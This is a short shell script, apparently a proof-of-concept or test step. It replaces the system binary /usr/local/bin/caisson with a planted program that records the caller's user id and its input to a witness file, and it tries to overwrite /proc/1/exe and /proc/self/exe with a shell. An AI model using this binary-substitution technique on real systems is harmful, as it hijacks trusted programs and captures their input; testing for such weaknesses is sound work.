# Puts a program of ours where caisson lies: a worker that is started by its path would be it.
cat >/usr/local/bin/evil <<'EOF'
#!/bin/sh
{ echo "WON run as $(id -u)"; cat; } >>/var/tmp/witness/it
exit 1
EOF
chmod 755 /usr/local/bin/evil
mv -f /usr/local/bin/evil /usr/local/bin/caisson
for link in /proc/1/exe /proc/self/exe; do
    cp /bin/sh "$link" 2>/dev/null || true
done
